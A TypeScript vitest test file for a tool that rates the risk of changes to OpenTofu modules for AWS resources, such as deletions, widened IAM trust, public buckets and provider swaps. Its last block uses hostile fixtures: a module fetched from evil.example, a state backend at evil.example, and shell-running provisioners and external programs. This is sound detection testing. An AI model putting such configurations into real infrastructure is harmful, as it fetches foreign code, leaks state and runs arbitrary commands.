import { describe, expect, it } from 'vitest'
import { judgeAws } from './aws.ts'
import { nothingAround } from './file-risk.ts'
import { templateOf } from './opentofu.ts'

const trust = (who: string) =>
  JSON.stringify({ Statement: [{ Effect: 'Allow', Principal: { AWS: who }, Action: 'sts:AssumeRole' }] })
const module = (resource: unknown, more: object = {}) => ({
  '//': '# Made by Slipway from x. Change that, then: y',
  terraform: { required_providers: { awscc: { source: 'hashicorp/awscc', version: '~> 1.0' } } },
  provider: { awscc: { region: 'eu-west-1' } },
  data: { aws_partition: { here: {} } },
  resource,
  ...more,
})
const told = (before: unknown, after: unknown) =>
  judgeAws({
    path: 'aws/111122223333/eu-west-1/x/main.tf.json',
    before: before === undefined ? undefined : JSON.stringify(before),
    after: after === undefined ? undefined : JSON.stringify(after),
    around: nothingAround,
  }).map(([level, code]) => `${level} ${code}`)

const queue = (more: object = {}) => ({ awscc_sqs_queue: { jobs: { queue_name: 'jobs', ...more } } })
const bucket = (more: object = {}) => ({ awscc_s3_bucket: { up: { bucket_name: 'up', ...more } } })
const role = (who: string) => ({ awscc_iam_role: { r: { assume_role_policy_document: trust(who) } } })

it('reads as CloudFormation would say it', () => {
  const resource = {
    awscc_eks_pod_identity_association: {
      pods: { role_arn: '${awscc_iam_role.role.arn}', tags: [{ key: 'a', value: 'b' }] },
    },
    awscc_sqs_queue_inline_policy: { jobs_policy: { queue: '${awscc_sqs_queue.jobs.id}' } },
    awscc_dynamodb_table: { t: { table_name: 't', lifecycle: { prevent_destroy: true }, depends_on: ['x'] } },
    awscc_iam_managed_policy: { p: { x: 'arn:${data.aws_partition.here.partition}:iam::1:role/a' } },
  }
  expect(templateOf(module(resource), true)).toEqual({
    Resources: {
      Pods: {
        Type: 'AWS::EKS::PodIdentityAssociation',
        Properties: { RoleArn: { 'Fn::GetAtt': ['Role', 'Arn'] }, Tags: [{ Key: 'a', Value: 'b' }] },
      },
      JobsPolicy: { Type: 'AWS::SQS::QueueInlinePolicy', Properties: { Queue: { Ref: 'Jobs' } } },
      T: { Type: 'AWS::DynamoDB::Table', UpdateReplacePolicy: 'Retain', Properties: { TableName: 't' } },
      P: { Type: 'AWS::IAM::ManagedPolicy', Properties: { X: 'arn:aws:iam::1:role/a' } },
    },
  })
})

describe('a module', () => {
  it.each<[string, unknown, unknown, readonly string[]]>([
    ['is new', undefined, module(queue()), ['low resource-added']],
    [
      'is new, with a provider of somebody',
      undefined,
      module({}, { provider: { evil: {} } }),
      ['high provider-added', 'low resource-added'],
    ],
    [
      'is new, with the code of a provider of somebody',
      undefined,
      module({}, { terraform: { required_providers: { awscc: { source: 'evil/awscc' } } } }),
      ['high provider-added', 'low resource-added'],
    ],
    [
      "takes a provider of AWS' name from somebody",
      module(queue()),
      module(queue(), { terraform: { required_providers: { awscc: { source: 'evil/awscc', version: '~> 1.0' } } } }),
      ['high provider-added', 'low property-changed'],
    ],
    [
      'moves to another version of its own provider',
      module(queue()),
      module(queue(), {
        terraform: { required_providers: { awscc: { source: 'hashicorp/awscc', version: '~> 2.0' } } },
      }),
      ['low property-changed'],
    ],
    [
      'keeps what it had of somebody',
      module(queue(), { module: { m: { source: './m' } } }),
      module(queue(), { module: { m: { source: './m' } } }),
      [],
    ],
    ['is as it was', module(queue()), module(queue()), []],
    ['loses a queue', module(queue()), module({}), ['high resource-removed']],
    [
      'loses what only its block kept',
      module(bucket({ lifecycle: { prevent_destroy: true } })),
      module({}),
      ['high resource-removed'],
    ],
    [
      'keeps a bucket no longer',
      module(bucket({ lifecycle: { prevent_destroy: true } })),
      module(bucket()),
      ['high retention-lost'],
    ],
    ['renames a queue', module(queue()), module(queue({ queue_name: 'other' })), ['high resource-replaced']],
    ['trusts somebody else', module(role('111122223333')), module(role('999988887777')), ['high trust-widened']],
    ...(
      [
        [
          'restarts a database',
          { db_instance_class: 'db.r7g.large' },
          { db_instance_class: 'db.r7g.xlarge' },
          'medium store-restarted',
        ],
        ['takes its standby', { multi_az: true }, { multi_az: false }, 'high guard-lost'],
        [
          'signs in by passwords',
          { enable_iam_database_authentication: true },
          { enable_iam_database_authentication: false },
          'high guard-lost',
        ],
        [
          'takes another group',
          { db_parameter_group_name: 'a' },
          { db_parameter_group_name: 'b' },
          'medium store-restarted',
        ],
        ['makes another database', { db_name: 'a' }, { db_name: 'b' }, 'high resource-replaced'],
      ] as const
    ).map(([what, before, after, risk]): [string, unknown, unknown, readonly string[]] => [
      what,
      module({ awscc_rds_db_instance: { a: before } }),
      module({ awscc_rds_db_instance: { a: after } }),
      [risk],
    ]),
    [
      'takes plain connections',
      module({ awscc_rds_db_parameter_group: { a: { parameters: { 'rds.force_ssl': '1' } } } }),
      module({ awscc_rds_db_parameter_group: { a: { parameters: { 'rds.force_ssl': '0' } } } }),
      ['high encryption-lost'],
    ],
    [
      'takes a copy of a cache',
      module({ awscc_elasticache_replication_group: { a: { num_cache_clusters: 2, multi_az_enabled: true } } }),
      module({ awscc_elasticache_replication_group: { a: { num_cache_clusters: 1, multi_az_enabled: false } } }),
      ['medium guard-lost', 'high guard-lost'],
    ],
    ['makes a bucket public', module(bucket()), module(bucket({ access_control: 'PublicRead' })), ['high made-public']],
  ])('%s', (_, before, after, risks) => {
    expect(told(before, after)).toEqual(risks)
  })
})

const run = [{ 'local-exec': { command: 'id' } }]
it.each<[string, unknown]>([
  ['a module from elsewhere', module(queue(), { module: { m: { source: 'git::https://evil.example/m' } } })],
  ['a program as data', module(queue(), { data: { external: { e: { program: ['sh'] } } } })],
  ['state kept elsewhere', module(queue(), { terraform: { backend: { http: { address: 'https://evil.example' } } } })],
  ['an output', module(queue(), { output: { o: { value: '1' } } })],
  ['a resource of no provider', module({ terraform_data: { t: { provisioner: run } } })],
  ['a provisioner of one of ours', module(queue({ provisioner: run }))],
  ['a provisioner in a list of blocks', module({ awscc_sqs_queue: { jobs: [{ provisioner: run }] } })],
  ['another provider for one of ours', module(queue({ provider: 'evil.a' }))],
  ['resources as a list', module([{ null_resource: { n: { provisioner: run } } }])],
  ['types as a list', module({ awscc_sqs_queue: [{ jobs: { provisioner: run } }] })],
  ['a list of modules', [module({})]],
])('%s is high, in a new file and in one that there was', (_, after) => {
  for (const before of [undefined, module(queue())]) expect(told(before, after)).toContain('high provider-added')
})
